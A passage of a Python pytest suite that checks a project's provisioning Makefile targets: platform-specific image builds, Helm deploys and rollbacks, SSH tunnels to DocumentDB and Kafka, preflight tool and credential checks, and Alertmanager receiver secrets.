    which the chart's schema refuses, so that commit could never be deployed. The arguments the
    target gives Helm, rendered by the real chart, keep it a string."""
    tag = "123456789012"
    ready_for(sandbox, "ca4-deploy-app")
    (sandbox.state_dir / "image-tag").write_text(tag + "\n")
    result = sandbox.make("ca4-deploy-app")
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    argv = next(c["argv"] for c in calls if c["tool"] == "helm" and "upgrade" in c["argv"])
    given = [
        arg
        for flag, value in itertools.pairwise(argv)
        if flag.startswith("--set")
        for arg in (flag, value)
    ]
    code, out, err = template(
        helm, "ca4-app", "-f", str(REPO / "infra/helm/ca4-app/values-dev.yaml"), *given
    )
    assert code == 0, err
    assert f"ghcr.io/ca4-project/ca4-worker:{tag}" in out


def test_deploy_fetches_the_db_ca_bundle_into_what_the_chart_mounts(
    sandbox: Sandbox, rendered: Rendered
) -> None:
    """The RDS CA bundle is downloaded at deploy time into the ConfigMap and key the prod chart
    mounts, before the chart is installed; the master password never enters the cluster."""
    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
    sandbox.reset()
    result = sandbox.make("ca4-deploy-app")
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    fetch = next(i for i, c in enumerate(calls) if c["tool"] == "curl")
    assert calls[fetch]["argv"][-1] == (
        "https://truststore.pki.rds.amazonaws.com/global/global-bundle.pem"
    )
    create = next(
        c["argv"] for c in calls[fetch:] if c["tool"] == "kubectl" and "configmap" in c["argv"]
    )
    helm = next(i for i, c in enumerate(calls) if c["tool"] == "helm")
    assert fetch < helm
    volumes = [
        v
        for w in workloads(rendered[("ca4-app", "prod")])
        for v in pod_spec(w).get("volumes", [])
        if "configMap" in v
    ]
    mounted = {(v["configMap"]["name"], i["key"]) for v in volumes for i in v["configMap"]["items"]}
    name = create[create.index("configmap") + 1]
    assert {(name, "global-bundle.pem")} <= mounted, mounted
    assert "secretsmanager" not in json.dumps([c["argv"] for c in calls])


def test_images_refuse_uncommitted_changes(sandbox: Sandbox) -> None:
    result = sandbox.make("ca4-images", env={"CA4_FAKE_GIT_STATUS": " M services/worker/x.py\n"})
    assert result.returncode != 0
    assert "uncommitted changes" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "docker"]


@pytest.mark.parametrize("tool", ["podman", "buildah"])
def test_images_use_whichever_tool_exists(sandbox: Sandbox, tool: str) -> None:
    (sandbox.bin / "docker").unlink()
    sandbox.add_fake(tool, (Path(__file__).parent / "fakes" / "fake_tool.py").read_text())
    result = sandbox.make("ca4-images")
    assert result.returncode == 0, result.stderr
    verbs = [
        c["argv"][0]
        for c in sandbox.calls()
        if c["tool"] == tool and c["argv"][0] not in {"image", "inspect"}
    ]
    assert verbs[:1] == ["bud" if tool == "buildah" else "build"]


def test_images_name_the_missing_tool(sandbox: Sandbox) -> None:
    (sandbox.bin / "docker").unlink()
    result = sandbox.make("ca4-images")
    assert result.returncode != 0
    lines = result.stderr.strip().splitlines()
    assert lines[:1] == [
        "images.sh: missing tool: docker, podman or buildah "
        "(install one to build the images, or set CA4_IMAGE_TOOL)"
    ]


def test_images_ship_an_archived_tag_for_a_rollback_or_a_new_node(sandbox: Sandbox) -> None:
    """A rollback deploys an older tag, which a new node (or the kubelet's image cleanup) may
    lack: the archives `make ca4-images` kept are shipped instead of building the current
    commit, with no build tool and whatever the tree holds, and the tag is recorded for the next
    `make ca4-deploy-app`."""
    assert sandbox.make("ca4-images").returncode == 0
    (sandbox.state_dir / "image-tag").write_text("fedcba987654\n")  # a newer release since
    for node in NODES:
        (sandbox.state / f"ubuntu_{node}.images").unlink()
    (sandbox.bin / "docker").unlink()
    sandbox.reset()
    result = sandbox.make(
        "ca4-images",
        env={"CA4_IMAGES_TAG": IMAGE_TAG, "CA4_FAKE_GIT_STATUS": " M services/worker/x.py\n"},
    )
    assert result.returncode == 0, result.stderr
    assert image_steps(sandbox.calls()) == [
        *[f"import {node} {IMAGES[0]}" for node in NODES],
        *[f"import {node} {IMAGES[1]}" for node in NODES],
    ]
    for node in NODES:
        assert sorted(node_images(sandbox, node)) == [f"{ref} linux/amd64" for ref in IMAGES]
    assert (sandbox.state_dir / "image-tag").read_text() == f"{IMAGE_TAG}\n"


def test_a_rollback_ships_and_deploys_the_old_tag_in_one_run(sandbox: Sandbox) -> None:
    """`CA4_IMAGES_TAG=<old> make ca4-images ca4-deploy-app`, as the guide's rollback runs it:
    the deploy takes the tag ca4-images just recorded, and names it in the release's
    description (what `helm history` shows an operator looking for the tag to go back to)."""
    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
    (sandbox.state_dir / "image-tag").write_text("fedcba987654\n")  # a newer release since
    sandbox.reset()
    result = sandbox.make("ca4-images", "ca4-deploy-app", env={"CA4_IMAGES_TAG": IMAGE_TAG})
    assert result.returncode == 0, result.stderr
    argv = next(
        c["argv"] for c in sandbox.calls() if c["tool"] == "helm" and "upgrade" in c["argv"]
    )
    assert argv[argv.index("image.tag=" + IMAGE_TAG) - 1] == "--set-string"
    assert argv[argv.index("--description") + 1] == f"image {IMAGE_TAG}"


@pytest.mark.parametrize(
    ("tag", "message"),
    [
        ("fedcba987654", "images.sh: no archive of ghcr.io/ca4-project/ca4-processor:fedcba987654"),
        ("v1.2", "images.sh: CA4_IMAGES_TAG=v1.2 is not an image tag"),
    ],
)
def test_images_say_why_an_archived_tag_cannot_be_shipped(
    sandbox: Sandbox, tag: str, message: str
) -> None:
    result = sandbox.make("ca4-images", env={"CA4_IMAGES_TAG": tag})
    assert result.returncode != 0
    assert message in result.stderr, result.stderr
    assert image_steps(sandbox.calls()) == []
    assert not (sandbox.state_dir / "image-tag").exists()


# -- ca4-images: built for the nodes' platform, and only that platform shipped -------------------


def node_images(sandbox: Sandbox, node: str) -> list[str]:
    """What the fake containerd of a node holds, as `ref platform` lines."""
    path = sandbox.state / f"ubuntu_{node}.images"
    return path.read_text().splitlines() if path.exists() else []


def test_images_build_for_the_nodes_platform(sandbox: Sandbox) -> None:
    """The nodes are amd64 (ubuntu-noble-24.04-amd64): without --platform an Apple Silicon laptop
    (the fake builder's default) builds arm64 images that fail on every node."""
    result = sandbox.make("ca4-images")
    assert result.returncode == 0, result.stderr
    builds = [
        c["argv"] for c in sandbox.calls() if c["tool"] == "docker" and c["argv"][0] == "build"
    ]
    assert len(builds) == 2
    for argv in builds:
        assert "--platform" in argv, argv
        assert argv[argv.index("--platform") + 1] == "linux/amd64"
    for node in NODES:
        assert sorted(node_images(sandbox, node)) == [f"{ref} linux/amd64" for ref in IMAGES]
    archives = sorted(p.name for p in (sandbox.state_dir / "images").iterdir())
    assert archives == [
        f"ca4-{service}-{IMAGE_TAG}-linux-amd64.tar" for service in ("processor", "worker")
    ]


def test_images_platform_is_part_of_what_is_already_done(sandbox: Sandbox) -> None:
    """A run before --platform left arm64 images at this commit, built and imported: the same tag
    is not "already built/imported" for amd64, so both are built and shipped again."""
    (sandbox.state / "built-images").write_text("".join(f"{ref} linux/arm64\n" for ref in IMAGES))
    for node in NODES:
        (sandbox.state / f"ubuntu_{node}.images").write_text(
            "".join(f"{ref} linux/arm64\n" for ref in IMAGES)
        )
    result = sandbox.make("ca4-images")
    assert result.returncode == 0, result.stderr
    assert image_steps(sandbox.calls()) == [
        *[f"build {IMAGES[0]}", f"save {IMAGES[0]}"],
        *[f"import {node} {IMAGES[0]}" for node in NODES],
        *[f"build {IMAGES[1]}", f"save {IMAGES[1]}"],
        *[f"import {node} {IMAGES[1]}" for node in NODES],
    ]
    assert f"{IMAGES[0]}: built for linux/arm64, not linux/amd64: building again" in result.stderr
    assert f"{IMAGES[0]} is there for linux/arm64 only, not linux/amd64" in result.stderr
    sandbox.reset()
    again = sandbox.make("ca4-images")
    assert again.returncode == 0, again.stderr
    assert image_steps(sandbox.calls()) == [], "amd64 images already there: nothing to do"


def test_images_refuse_an_image_of_another_architecture(sandbox: Sandbox) -> None:
    """A builder that ignores --platform (no cross-building set up) makes an arm64 image: it is
    inspected and refused before any node imports it."""
    result = sandbox.make("ca4-images", env={"CA4_FAKE_BUILD_PLATFORM": "linux/arm64"})
    assert result.returncode != 0
    assert (
        f"images.sh: {IMAGES[0]}: docker built it for linux/arm64, not linux/amd64 "
        "(the nodes' platform): nothing was imported" in result.stderr
    )
    inspects = [c["argv"] for c in sandbox.calls() if c["argv"][:2] == ["image", "inspect"]]
    assert inspects, "the built image is inspected"
    assert not [c for c in sandbox.calls() if "images import" in " ".join(c["argv"])]
    assert not (sandbox.state_dir / "image-tag").exists()


def test_images_platform_is_overridable_and_checked_against_the_nodes(sandbox: Sandbox) -> None:
    arm = {"CA4_IMAGE_PLATFORM": "linux/arm64"}
    result = sandbox.make("ca4-images", env=arm)
    assert result.returncode != 0
    assert (
        "images.sh: 10.40.10.11: the node is linux/amd64, the images are linux/arm64: "
        "set CA4_IMAGE_PLATFORM=linux/amd64" in result.stderr
    )
    assert not [c for c in sandbox.calls() if "images import" in " ".join(c["argv"])]
    sandbox.reset()
    result = sandbox.make("ca4-images", env={**arm, "CA4_FAKE_NODE_MACHINE": "aarch64"})
    assert result.returncode == 0, result.stderr
    builds = [
        c["argv"] for c in sandbox.calls() if c["tool"] == "docker" and c["argv"][0] == "build"
    ]
    assert all(a[a.index("--platform") + 1] == "linux/arm64" for a in builds)
    assert node_images(sandbox, NODES[0]) == [f"{ref} linux/arm64" for ref in IMAGES]


@pytest.mark.parametrize("tool", ["podman", "buildah"])
def test_images_other_tools_build_for_the_nodes_platform(sandbox: Sandbox, tool: str) -> None:
    (sandbox.bin / "docker").unlink()
    sandbox.add_fake(tool, (Path(__file__).parent / "fakes" / "fake_tool.py").read_text())
    result = sandbox.make("ca4-images")
    assert result.returncode == 0, result.stderr
    builds = [
        c["argv"] for c in sandbox.calls() if c["tool"] == tool and c["argv"][0] in {"build", "bud"}
    ]
    assert len(builds) == 2
    assert all(a[a.index("--platform") + 1] == "linux/amd64" for a in builds)
    assert sorted(node_images(sandbox, NODES[0])) == [f"{ref} linux/amd64" for ref in IMAGES]


# -- ca4-db-user: the tunnel ends where DocumentDB admits connections --------------------------

DB_ENDPOINT = str(OUTPUTS["documentdb_endpoint"])
FIRST_SERVER = "10.40.10.11"


def test_db_user_tunnels_through_a_k3s_server_not_the_bastion(sandbox: Sandbox) -> None:
    """DocumentDB admits 27017 from the k3s_nodes security group only and the bastion may reach
    nothing but the nodes: the forward must end on a K3s server, reached through the bastion."""
    result = sandbox.make("ca4-db-user")
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    tunnel = next(i for i, c in enumerate(calls) if c["tool"] == "ssh" and "-L" in c["argv"])
    argv = calls[tunnel]["argv"]
    assert argv[argv.index("-L") + 1] == f"127.0.0.1:27117:{DB_ENDPOINT}:27017"
    assert argv[-1] == f"ubuntu@{FIRST_SERVER}"
    assert calls[tunnel]["policy"]["target"]["proxyjump"] == ["ubuntu@203.0.113.10"]
    probe = next(
        i for i, c in enumerate(calls) if c["tool"] == "ssh" and "/dev/tcp/" in " ".join(c["argv"])
    )
    assert f"/dev/tcp/{DB_ENDPOINT}/27017" in " ".join(calls[probe]["argv"])
    assert "-S" in calls[probe]["argv"], "the probe uses the tunnel's own connection"
    db_user = next(i for i, c in enumerate(calls) if c["tool"] == "uv" and "db-user" in c["argv"])
    closed = next(
        i
        for i, c in enumerate(calls)
        if c["tool"] == "ssh" and c["argv"][-2:] == ["exit", f"ubuntu@{FIRST_SERVER}"]
    )
    assert tunnel < probe < db_user < closed
    assert f"through the K3s server {FIRST_SERVER}" in result.stderr


def test_db_user_stops_when_documentdb_does_not_answer(sandbox: Sandbox) -> None:
    """A dead forward fails in seconds, naming the host it went through and what to check,
    instead of as the client's server-selection timeout."""
    result = sandbox.make("ca4-db-user", env={"CA4_FAKE_DB_UNREACHABLE": "1"})
    assert result.returncode != 0
    assert (
        f"db-user.sh: DocumentDB {DB_ENDPOINT}:27017 does not answer TCP within 5s from the K3s "
        f"server {FIRST_SERVER}, which the tunnel 127.0.0.1:27117 goes through: check that the "
        "cluster is available" in result.stderr
    )
    assert "k3s_nodes security group" in result.stderr
    calls = sandbox.calls()
    assert not [c for c in calls if c["tool"] == "uv"], "ca4 db-user never started"
    assert any(
        c["tool"] == "ssh" and c["argv"][-2:] == ["exit", f"ubuntu@{FIRST_SERVER}"] for c in calls
    ), "the tunnel is closed"


def test_deploy_without_a_built_tag_is_refused(sandbox: Sandbox) -> None:
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-deploy-app")
    assert result.returncode != 0
    assert "ca4-deploy-app: no image tag: run 'make ca4-images'" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "helm"]


def test_helm_targets_are_idempotent_upgrades(sandbox: Sandbox) -> None:
    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
    for _ in range(2):
        sandbox.reset()
        result = sandbox.make("ca4-platform-setup", "ca4-deploy-app")
        assert result.returncode == 0, result.stderr
        for call in sandbox.calls():
            if call["tool"] == "helm" and call["argv"][0] != "template":
                assert call["argv"][:2] == ["upgrade", "--install"]
            if call["tool"] == "kubectl":
                verb = verb_args(call["argv"])[0]
                assert verb in {"version", "create", "apply", "label", "annotate", "get"}
                if verb == "create":
                    assert "--dry-run=client" in call["argv"]


def test_destroy_keeps_the_bucket_unless_asked(sandbox: Sandbox) -> None:
    assert sandbox.make("ca4-destroy").returncode == 0
    destroy = next(c["argv"] for c in sandbox.calls() if c["argv"][1:2] == ["destroy"])
    assert "-target=module.network" in destroy
    assert not any("archive_bucket" in a for a in destroy)
    sandbox.reset()
    assert sandbox.make("ca4-destroy", env={"DESTROY_ARCHIVE": "yes"}).returncode == 0
    calls = [c["argv"] for c in sandbox.calls() if c["tool"] == "terraform"]
    assert any(
        "-target=module.archive_bucket" in a and "archive_force_destroy=true" in a for a in calls
    )
    assert any(a[1] == "destroy" and not any(x.startswith("-target") for x in a) for a in calls)


def test_operator_tfvars_follow_the_shipped_ones(sandbox: Sandbox, tmp_path: Path) -> None:
    """A grown disk or another region lives in the operator's own untracked tfvars, passed after
    envs/<ENV>.tfvars to every plan, apply and destroy so it wins; a tracked edit would stop the
    next ca4-images."""
    site = tmp_path / "site.tfvars"
    site.write_text("k3s_data_volume_size_gb = 80\n")
    env = {"CA4_TF_VAR_FILES": str(site)}
    for target, extra in (("ca4-apply", {}), ("ca4-destroy", {"DESTROY_ARCHIVE": "yes"})):
        sandbox.reset()
        result = sandbox.make(target, env={**env, **extra})
        assert result.returncode == 0, result.stderr
        changing = [
            c["argv"]
            for c in sandbox.calls()
            if c["tool"] == "terraform" and verb_args(c["argv"])[0] in {"plan", "apply", "destroy"}
        ]
        assert changing, target
        shipped = f"-var-file={REPO}/infra/terraform/envs/dev.tfvars"
        for argv in changing:
            files = [a for a in argv if a.startswith("-var-file=")]
            # a saved plan's apply takes no variables
            assert files in ([], [shipped, f"-var-file={site}"]), (target, argv)
        assert any(a for a in changing if f"-var-file={site}" in a), target


def test_dev_targets(sandbox: Sandbox) -> None:
    result = sandbox.make("dev-kafka-tunnel", "dev-ngrok", "dev-api")
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    tunnel = next(c["argv"] for c in calls if c["tool"] == "ssh")
    # The tunnel NodePort keeps the bastion's address (Local), so it ends on the broker's node.
    lookups = [c["argv"] for c in calls if c["tool"] == "kubectl"]
    assert [argv[argv.index("get") : argv.index("get") + 3] for argv in lookups] == [
        ["get", "statefulset", "kafka"],
        ["get", "pod", "kafka-0"],
    ]
    assert "127.0.0.1:1:10.40.11.21:30094" in tunnel
    assert "ubuntu@203.0.113.10" in tunnel
    assert next(c["argv"] for c in calls if c["tool"] == "ngrok") == ["http", "127.0.0.1:8002"]
    uvicorn = next(c["argv"] for c in calls if c["tool"] == "uv" and "uvicorn" in c["argv"])
    assert uvicorn[uvicorn.index("--port") + 1] == "8000"


def test_dev_api_takes_the_stacks_settings_and_the_processor_port(sandbox: Sandbox) -> None:
    """It ran on :8000 with the services' defaults, so a moved dev stack (another checkout's on
    the default ports) was not the one it used."""
    sandbox.env = {k: v for k, v in sandbox.env.items() if k != "CA4_KAFKA_BOOTSTRAP_SERVERS"}
    result = sandbox.make("dev-api", env={"CA4_DEVSTACK_PROCESSOR_PORT": "18000"})
    assert result.returncode == 0, result.stderr
    uv_calls = [c["argv"] for c in sandbox.calls() if c["tool"] == "uv"]
    assert uv_calls[0] == ["run", "ca4", "devstack", "env"]
    assert uv_calls[1][uv_calls[1].index("--port") + 1] == "18000"


# -- tunnels: a local port that answers must be the tunnel itself ------------------------------

# A stand-in for an open tunnel: listens on the port in argv[1]; the rest of argv is the ssh
# command line tunnel.sh looks for (the process's command line, as pgrep -f sees it).
LISTENER = (
    "import socket, sys, time\n"
    "s = socket.socket()\n"
    "s.bind(('127.0.0.1', int(sys.argv[1])))\n"
    "s.listen()\n"
    "print('listening', flush=True)\n"
    "time.sleep(120)\n"
)
TUNNELS = {
    "dev-kafka-tunnel": ("CA4_KAFKA_TUNNEL_PORT", "{port}:10.40.11.21:30094"),
    "ca4-api-tunnel": ("CA4_API_TUNNEL_PORT", "{port}:10.40.10.11:6443"),
}


@contextlib.contextmanager
def listening(port: int, *command_line: str) -> Iterator[None]:
    """A process that holds 127.0.0.1:port and shows ``command_line`` to pgrep."""
    with subprocess.Popen(
        [sys.executable, "-c", LISTENER, str(port), *command_line], stdout=subprocess.PIPE
    ) as process:
        try:
            assert process.stdout is not None
            assert process.stdout.readline().strip() == b"listening"
            yield
        finally:
            process.kill()


@pytest.mark.parametrize("target", sorted(TUNNELS))
def test_tunnel_refuses_a_port_another_program_holds(sandbox: Sandbox, target: str) -> None:
    """With the local dev stack running, its Kafka holds 127.0.0.1:9092: `already answers` would
    send the clients that think they reach the cluster to the laptop's Kafka instead."""
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    variable, _ = TUNNELS[target]
    port = free_port()
    with listening(port, "kafka-server-start.sh", "server.properties"):
        result = sandbox.make(target, env={variable: str(port)})
    assert result.returncode != 0
    expected = f"tunnel.sh: 127.0.0.1:{port} is taken by another program, not this tunnel ("
    assert expected in result.stderr, result.stderr
    if target == "dev-kafka-tunnel":
        assert "make devstack-down" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "ssh"]


@pytest.mark.parametrize("target", sorted(TUNNELS))
def test_tunnel_already_open_is_left_alone(sandbox: Sandbox, target: str) -> None:
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    variable, forward = TUNNELS[target]
    port = free_port()
    spec = "127.0.0.1:" + forward.format(port=port)
    with listening(port, "ssh", "-F", "cfg", "-f", "-N", "-L", spec, "ubuntu@203.0.113.10"):
        result = sandbox.make(target, env={variable: str(port)})
    assert result.returncode == 0, result.stderr
    assert f"127.0.0.1:{port} is already this tunnel" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "ssh"]


def test_kafka_tunnel_to_an_old_node_is_named(sandbox: Sandbox) -> None:
    """The broker moved to another node: the old tunnel holds the port but reaches nothing."""
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    port = free_port()
    stale = f"127.0.0.1:{port}:10.40.10.22:30094"
    with listening(port, "ssh", "-f", "-N", "-L", stale, "ubuntu@203.0.113.10"):
        result = sandbox.make("dev-kafka-tunnel", env={"CA4_KAFKA_TUNNEL_PORT": str(port)})
    assert result.returncode != 0
    assert f"127.0.0.1:{port} is an ssh tunnel to another address than 10.40.11.21:30094" in (
        result.stderr
    )
    assert "its own port: CA4_KAFKA_TUNNEL_PORT" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "ssh"]


@pytest.mark.parametrize(
    ("target", "tool"),
    [
        ("ca4-apply", "terraform"),
        ("ca4-bootstrap-k3s", "ssh"),
        ("ca4-bootstrap-k3s", "sha256sum"),
        ("ca4-platform-setup", "helm"),
        ("ca4-deploy-app", "kubectl"),
        ("ca4-deploy-app", "sha256sum"),
        ("ca4-verify-e2e", "uv"),
        ("ca4-destroy", "terraform"),
        ("dev-api", "uv"),
        ("dev-ngrok", "ngrok"),
        ("dev-kafka-tunnel", "ssh"),
    ],
)
def test_missing_tool_stops_the_target(sandbox: Sandbox, target: str, tool: str) -> None:
    (sandbox.bin / tool).unlink()
    kube = sandbox.home / ".kube" / "ca4-dev.yaml"
    kube.write_text("apiVersion: v1\n")
    result = sandbox.make(target)
    assert result.returncode != 0
    assert f"{target}: missing tool: {tool}" in result.stderr
    assert len(result.stderr.strip().splitlines()[0]) < 160
    assert not [
        c
        for c in sandbox.calls()
        if c["tool"] in {"terraform", "helm"} and c["argv"][0] != "output"
    ]


@pytest.mark.parametrize(
    ("target", "unset", "message"),
    [
        ("ca4-apply", "AWS_PROFILE", "missing credential: AWS"),
        ("ca4-apply", "CA4_OPERATOR_CIDR", "missing setting: CA4_OPERATOR_CIDR"),
        ("ca4-apply", "CA4_TF_STATE_BUCKET", "missing setting: CA4_TF_STATE_BUCKET"),
        ("ca4-destroy", "AWS_PROFILE", "missing credential: AWS"),
        ("ca4-deploy-app", "CA4_MONGO_URL", "missing setting: CA4_MONGO_URL"),
        # a first deploy: no live Secret whose keys a re-run would keep
        ("ca4-deploy-app", "CA4_API_KEY_HASHES", "missing setting: CA4_API_KEY_HASHES"),
        ("dev-ngrok", "NGROK_AUTHTOKEN", "missing setting: NGROK_AUTHTOKEN"),
    ],
)
def test_missing_credential_stops_the_target(
    sandbox: Sandbox, target: str, unset: str, message: str
) -> None:
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    env = dict(sandbox.env)
    env.pop(unset)
    sandbox.env = env
    result = sandbox.make(target)
    assert result.returncode != 0
    assert f"{target}: {message}" in result.stderr
    assert not [
        c
        for c in sandbox.calls()
        if c["tool"] in {"terraform", "helm", "ngrok"} and c["argv"][0] != "output"
    ]


@pytest.mark.parametrize("version", ["3.81", "3.80"])
def test_a_make_that_ignores_the_shell_flags_is_refused_by_name(
    sandbox: Sandbox, version: str
) -> None:
    """macOS's /usr/bin/make is GNU Make 3.81, which ignores .SHELLFLAGS: without -e a refused
    step went on to the next one. It stops before any recipe, saying what to use instead."""
    result = sandbox.make("ca4-apply", f"MAKE_VERSION={version}")
    assert result.returncode != 0
    assert f"GNU Make {version} ignores .SHELLFLAGS" in result.stderr
    assert "Use GNU Make 3.82 or later (macOS: brew install make, then run gmake" in result.stderr
    assert sandbox.calls() == []
    # The root Makefile's own targets (make dev, make help) still run under it.
    other = run(["make", "--no-print-directory", "help", f"MAKE_VERSION={version}"], cwd=REPO)
    assert other.returncode == 0, other.stderr


def test_preflight_refuses_a_bash_older_than_4_4(tmp_path: Path) -> None:
    """macOS's /bin/bash is 3.2, which has no mapfile (k3s-bootstrap.sh), no declare -A
    (images.sh) and no negative array index (tunnel.sh): the first step names what to install.
    BASH_VERSINFO is read-only, so a copy of the script reads 3.2's instead."""
    script = (REPO / "tools/provision/scripts/preflight.sh").read_text()
    check = "((BASH_VERSINFO[0] < 4 || (BASH_VERSINFO[0] == 4 && BASH_VERSINFO[1] < 4)))"
    assert script.count(check) == 1
    old_bash = tmp_path / "preflight.sh"
    old_bash.write_text(
        script.replace(check, "((3 < 4 || (3 == 4 && 2 < 4)))").replace(
            "${BASH_VERSION}", "3.2.57(1)-release"
        )
    )
    result = run(["bash", str(old_bash), "ca4-apply", "terraform"])
    assert result.returncode != 0
    assert result.stderr.startswith(
        "ca4-apply: bash 3.2.57(1)-release is too old: the provisioning scripts need bash 4.4 or "
        "later first on PATH (macOS: brew install bash"
    ), result.stderr
    assert run(["bash", str(REPO / "tools/provision/scripts/preflight.sh"), "x"]).returncode == 0
    for developer_target in ("dev-api", "dev-ngrok"):  # run no provisioning script: any bash
        assert run(["bash", str(old_bash), developer_target]).returncode == 0, developer_target


def test_missing_kubeconfig_stops_platform_setup(sandbox: Sandbox) -> None:
    result = sandbox.make("ca4-platform-setup")
    assert result.returncode != 0
    assert "ca4-platform-setup: missing file: CA4_KUBECONFIG=" in result.stderr


def test_unreachable_api_is_named(sandbox: Sandbox) -> None:
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    sandbox.add_fake("kubectl", "import sys\nsys.exit(1)\n")
    result = sandbox.make("ca4-platform-setup")
    assert result.returncode != 0
    assert "Kubernetes API not reachable" in result.stderr
    assert "make ca4-api-tunnel" in result.stderr


# -- ca4-platform-setup: the Alertmanager receivers' Secret on a first deploy ---------------------

RECEIVER_FILE_VARIABLES = {
    "webhook-url": "CA4_ALERT_WEBHOOK_URL_FILE",
    "slack-api-url": "CA4_ALERT_SLACK_API_URL_FILE",
    "smtp-password": "CA4_ALERT_SMTP_PASSWORD_FILE",
}
RECEIVER_VALUES = {
    "webhook-url": WEBHOOK_URL,
    "slack-api-url": SLACK_URL,
    "smtp-password": SMTP_PASSWORD,
}


def receivers_secret(rendered: Rendered, value_set: str) -> tuple[str, str]:
    """(namespace, name) of the Secret the rendered Alertmanager mounts."""
    deployment = next(
        d
        for d in rendered[("ca4-platform", value_set)]
        if d["kind"] == "Deployment" and d["metadata"]["name"] == "alertmanager"
    )
    names = [v["secret"]["secretName"] for v in pod_spec(deployment)["volumes"] if "secret" in v]
    assert len(names) == 1, names
    return deployment["metadata"]["namespace"], names[0]


def kubectl_index(calls: list[dict[str, Any]], *words: str) -> int:
    """Index of the first kubectl call whose argv holds every word."""
    return next(
        i for i, c in enumerate(calls) if c["tool"] == "kubectl" and set(words) <= set(c["argv"])
    )


def without_receiver_files(sandbox: Sandbox) -> None:
    sandbox.env = {
        k: v for k, v in sandbox.env.items() if k not in RECEIVER_FILE_VARIABLES.values()
    }


def assert_no_receiver_secret_leaked(
    sandbox: Sandbox, result: subprocess.CompletedProcess[str]
) -> None:
    argv = json.dumps([c["argv"] for c in sandbox.calls()])
    for value in RECEIVER_VALUES.values():
        assert value not in argv, "a receiver secret on a command line"
        assert value not in result.stdout + result.stderr, "a receiver secret in the output"


def test_first_platform_setup_writes_the_receivers_secret_into_a_namespace_helm_adopts(
    sandbox: Sandbox, rendered: Rendered
) -> None:
    """The documented first deploy: the monitoring namespace does not exist yet (the chart creates
    it), so the target creates it with Helm's ownership metadata for the release to adopt, then
    the Secret the dev values' webhook receiver mounts, from CA4_ALERT_WEBHOOK_URL_FILE, all
    before the install that waits for Alertmanager."""
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-platform-setup")
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    install = next(i for i, c in enumerate(calls) if c["argv"][:2] == ["upgrade", "--install"])
    release, chart = calls[install]["argv"][2:4]
    release_namespace = calls[install]["argv"][calls[install]["argv"].index("--namespace") + 1]
    namespace, secret = receivers_secret(rendered, "dev")
    created = kubectl_index(calls, "create", "namespace", namespace)
    assert calls[created + 1]["argv"] == ["apply", "-f", "-"]
    label = kubectl_index(calls, "label", "namespace", namespace)
    assert "app.kubernetes.io/managed-by=Helm" in calls[label]["argv"]
    annotate = kubectl_index(calls, "annotate", "namespace", namespace)
    assert f"meta.helm.sh/release-name={release}" in calls[annotate]["argv"]
    assert f"meta.helm.sh/release-namespace={release_namespace}" in calls[annotate]["argv"]
    write = kubectl_index(calls, "create", "secret", "generic", secret)
    assert calls[write]["argv"][calls[write]["argv"].index("-n") + 1] == namespace
    assert "--dry-run=client" in calls[write]["argv"]
    assert calls[write]["files"] == {"webhook-url": WEBHOOK_URL}
    assert calls[write + 1]["argv"] == ["apply", "-f", "-"]
    assert created < label < annotate < write < install
    assert chart.endswith("infra/helm/ca4-platform")
    assert_no_receiver_secret_leaked(sandbox, result)


def test_the_heartbeat_receiver_reads_its_url_from_a_file_like_the_others(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    """alertmanager.heartbeat.enabled (values of the operator's own) mounts the key heartbeat-url:
    the target stopped with "no CA4_ALERT_*_FILE provides" it before the key had a variable."""
    platform_values = tmp_path / "platform-values.yaml"
    platform_values.write_text("alertmanager:\n  heartbeat:\n    enabled: true\n")
    heartbeat_url = tmp_path / "heartbeat-url.secret"
    heartbeat_url.write_text("https://hc-ping.test/ca4-heartbeat\n")
    sandbox.env["CA4_ALERT_HEARTBEAT_URL_FILE"] = str(heartbeat_url)
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")

    result = sandbox.make("ca4-platform-setup", env={"CA4_PLATFORM_VALUES": str(platform_values)})

    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    write = kubectl_index(calls, "create", "secret", "generic", "ca4-alertmanager-receivers")
    assert calls[write]["files"] == {
        "webhook-url": WEBHOOK_URL,
        "heartbeat-url": "https://hc-ping.test/ca4-heartbeat\n",
    }
    assert "hc-ping.test" not in json.dumps([c["argv"] for c in calls])


def test_prod_platform_setup_writes_every_enabled_receiver_from_its_file(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    for key, variable in RECEIVER_FILE_VARIABLES.items():
        path = tmp_path / f"{key}.secret"
        path.write_text(RECEIVER_VALUES[key] + "\n")
        sandbox.env[variable] = str(path)
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-platform-setup", env={"ENV": "prod"})
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    write = kubectl_index(calls, "create", "secret", "generic", "ca4-alertmanager-receivers")
    assert calls[write]["files"] == {k: v + "\n" for k, v in RECEIVER_VALUES.items()}
    assert_no_receiver_secret_leaked(sandbox, result)


@pytest.mark.parametrize(
    ("value_set", "variables"),
